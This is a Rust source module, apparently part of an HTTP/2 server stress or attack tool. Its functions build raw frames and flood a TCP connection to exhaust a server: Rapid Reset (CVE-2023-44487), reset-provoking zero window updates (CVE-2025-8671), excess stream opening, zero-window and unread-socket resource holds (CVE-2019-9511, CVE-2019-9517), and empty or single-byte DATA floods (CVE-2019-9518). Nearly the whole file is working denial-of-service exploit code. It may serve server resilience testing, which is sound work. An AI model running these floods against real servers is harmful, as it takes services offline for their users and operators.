//! Streams in ways that cost the server more than the client.

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::flood;
use crate::raw::{
    Client, DATA, END_HEADERS, END_STREAM, HEADERS, REQUEST, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    frame,
};

/// Streams of a connection, before their numbers would end.
const STREAMS: u32 = 100_000;

fn open(n: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &REQUEST)
}

fn reset(n: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, 2 * n + 1, &8_u32.to_be_bytes())
}

/// CVE-2023-44487, as fast as it goes.
pub(super) async fn resets_at_once(io: TcpStream) {
    let mut client = Client::connect(io).await;
    for first in (0..STREAMS).step_by(500) {
        let pairs: Vec<_> = (first..first + 500).flat_map(|n| [open(n), reset(n)]).collect();
        if client.0.write_all(&pairs.concat()).await.is_err() {
            return;
        }
    }
}

/// The same, with time for each stream to be taken in.
pub(super) async fn resets_in_turn(io: TcpStream) {
    let mut client = Client::connect(io).await;
    client.0.set_nodelay(true).unwrap();
    for n in 0..STREAMS {
        if client.0.write_all(&open(n)).await.is_err() {
            return;
        }
        tokio::task::yield_now().await;
        if client.0.write_all(&reset(n)).await.is_err() {
            return;
        }
    }
}

/// CVE-2025-8671: the server is made to reset the streams itself, by window updates of nothing.
pub(super) async fn errors(io: TcpStream) {
    let mut client = Client::connect(io).await;
    for first in (0..STREAMS).step_by(500) {
        let nothing = |n: u32| frame(WINDOW_UPDATE, 0, 2 * n + 1, &[0; 4]);
        let pairs: Vec<_> = (first..first + 500).flat_map(|n| [open(n), nothing(n)]).collect();
        if client.0.write_all(&pairs.concat()).await.is_err() {
            return;
        }
    }
}

/// Opens further streams where no more are allowed, and does not read what comes of it.
pub(super) async fn too_many(io: TcpStream) {
    let mut client = Client::connect(io).await;
    for first in (0..STREAMS).step_by(500) {
        let all: Vec<_> = (first..first + 500).map(open).collect();
        if client.0.write_all(&all.concat()).await.is_err() {
            return;
        }
    }
}

/// `GET /large`.
fn large(n: u32) -> Vec<u8> {
    let head = [&[0x82, 0x86, 0x04, 0x06][..], b"/large", &[0x41, 0x01, b'a']].concat();
    frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &head)
}

/// Asks for answers without end and never lets them come (CVE-2019-9511, CVE-2019-9517).
pub(super) async fn no_window(io: TcpStream) {
    let mut client = Client::connect(io).await;
    // SETTINGS_INITIAL_WINDOW_SIZE.
    client.send(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]).await;
    let all: Vec<_> = (0..256).map(large).collect();
    client.burst(&all).await;
    while client.next().await.is_some() {}
}

/// The same with windows of all sizes, and a socket that is never read.
pub(super) async fn never_read(io: TcpStream) {
    let mut client = Client::connect(io).await;
    client.send(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]).await;
    client.send(WINDOW_UPDATE, 0, 0, &0x7ffe_0000_u32.to_be_bytes()).await;
    let all: Vec<_> = (0..256).map(large).collect();
    client.burst(&all).await;
    std::future::pending().await
}

/// Bodies of single bytes that nobody reads.
pub(super) async fn single_bytes(io: TcpStream) {
    let mut client = Client::connect(io).await;
    for n in 0..8 {
        client.send(HEADERS, END_HEADERS, 2 * n + 1, &REQUEST).await;
    }
    let round: Vec<_> = (0..8_000).map(|n| frame(DATA, 0, 2 * (n % 8) + 1, &[7])).collect();
    flood(&mut client.0, &round.concat()).await;
}

/// RUSTSEC-2026-0258, CVE-2019-9518.
pub(super) async fn empty_data(io: TcpStream) {
    let mut client = Client::connect(io).await;
    client.send(HEADERS, END_HEADERS, 1, &REQUEST).await;
    let frames: Vec<_> = (0..1_000).map(|_| frame(DATA, 0, 1, &[])).collect();
    flood(&mut client.0, &frames.concat()).await;
}
